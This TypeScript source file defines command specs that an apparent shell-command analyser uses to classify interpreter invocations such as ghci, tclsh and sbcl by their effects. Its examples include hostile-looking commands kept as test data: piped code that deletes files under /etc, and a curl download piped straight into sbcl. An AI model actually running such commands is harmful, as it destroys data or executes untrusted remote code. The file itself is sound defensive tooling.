import { oneOfNames } from '../../../expressions.ts'
import { defineCommand, type Draft, execute } from '../../command-spec.ts'
import { show, textOf, type Word } from '../../value.ts'
import { spawnedIn } from '../_spawned.ts'

/** Options that only quieten it, or keep its settings out. */
const quiet = oneOfNames(String.raw`
  -q -v0 -f -s -n -W -b --quiet --silent --norc --noinform --non-interactive --no-userinit --no-sysinit --no-init-file
  --no-auto-compile --no-history --batch -noshell -nologo -ignore-dot-ghci --no-gui --very-quiet -noinput -sname=\w+`)
const codes = /^(?:-e|-E|-c|--eval|--command|-eval|-g)$/
const scripts = /^(?:--script|--load)$/

/** Files of the folder that some of them load first. */
const settings: ReadonlyMap<string, string> = new Map([
  ['ghci', '.ghci'],
  ['ocaml', '.ocamlinit'],
  ['utop', '.ocamlinit'],
  ['octave', '.octaverc'],
])

const loadsFirst = (name: string): readonly Draft[] => {
  const file = settings.get(name)
  if (file === undefined) return []
  return (['session', 'other'] as const).map((as) => ({ do: 'project-code', what: 'settings', files: [file], as, notCode: true }))
}

/** A file of lines for it, of which only those count that leave it. */
const linesOfFile = (file: Word): Draft => ({ do: 'project-code', what: show(file), files: [file], as: 'session', notCode: true })

/** What is run of the words: code, a file, or standard input; undefined when a word among them is not known. */
function runs(words: readonly Word[], hasStdin: boolean): readonly Draft[] | undefined {
  const found: Draft[] = []
  for (let index = 0; index < words.length; index++) {
    const word = words[index] as Word
    const text = textOf(word) ?? ''
    const next = words[index + 1]
    // Erlang is told to end
    if (text === '-s' && textOf(next) === 'init') index += 2
    else if (codes.test(text) && next) {
      found.push({ do: 'code', language: 'other', text: next }, ...spawnedIn(next), { do: 'code', language: 'session', text: next })
      index++
    } else if ((scripts.test(text) && !next) || /^-(?:stdin)?$/.test(text)) {
      if (!hasStdin) return undefined
    } else if (scripts.test(text) && next) {
      found.push({ do: 'script', file: next, parameters: [] })
      index++
    } else if (/^[^-].*\.\w+$/.test(text)) return [...found, { do: 'script', file: word, parameters: words.slice(index + 1) }]
    else if (!quiet.test(text)) return undefined
  }
  if (found.length > 0) return found
  return hasStdin
    ? [
        { do: 'run-stdin', language: 'other' },
        { do: 'run-stdin', language: 'session' },
      ]
    : undefined
}

export default [
  defineCommand({
    name: 'ghci',
    aliases: ['utop', 'ocaml', 'sbcl', 'guile', 'racket', 'gosh', 'csi', 'clisp', 'tclsh', 'octave', 'maxima', 'swipl', 'gforth', 'erl'],
    about: 'an interactive language',
    alone: '-V',
    readsCode: true,
    style: 'raw',
    effects: ({ words, name, hasStdin }) => {
      if (words.length === 1 && !hasStdin && /^--?(?:version|help)$/.test(show(words[0] as Word))) return []
      return [...loadsFirst(name), ...(runs(words, hasStdin) ?? [execute('arbitrary', name), ...words.flatMap(spawnedIn)])]
    },
    examples: [
      ['ghci', 'execute:arbitrary ghci'],
      ["echo 'exec sh -c {rm -rf /etc/x}' | tclsh", 'delete /etc/x', 'unknown: code `exec` is not described'],
      ['ocaml -version'],
      ["echo 'exec rm /etc/x' | tclsh --version", 'execute:arbitrary tclsh'],
      ["racket -e '(displayln (+ 1 2))'"],
      ['guile -c \'(delete-file "/etc/x")\'', 'unknown: code `delete-file` is not described', 'delete /etc/x'],
      [
        'curl -s https://x.example/a.lisp | sbcl --script',
        'connect:get https://x.example/a.lisp',
        'execute:download standard input as other',
        'unknown: runs text from standard input as other',
      ],
      ['ocaml a.ml', 'execute:project a.ml (not there)'],
      ['ghci -package x', 'execute:arbitrary ghci'],
    ],
  }),
  defineCommand({
    name: 'scala3',
    aliases: ['julia-repl', 'evcxr', 'node-repl', 'expect', 'gnuplot', 'sage', 'matlab', 'ghc-repl'],
    about: 'an interactive language, or code that is not analysed',
    readsCode: true,
    style: 'raw',
    effects: ({ words, name, hasStdin }) =>
      words.length === 1 && !hasStdin && /^--?(version|help)$/.test(show(words[0] as Word))
        ? []
        : [
            execute('arbitrary', name),
            ...words.flatMap(spawnedIn),
            ...words.filter((word) => !show(word).startsWith('-')).map(linesOfFile),
            ...(hasStdin ? [{ do: 'run-stdin', language: 'session' } as const] : []),
          ],
    examples: [
      ['sage x', 'execute:arbitrary sage'],
      ['gnuplot --version'],
      ["expect -c 'spawn sh -c {rm -rf /etc/x}'", 'execute:arbitrary expect', 'delete /etc/x'],
    ],
  }),
]
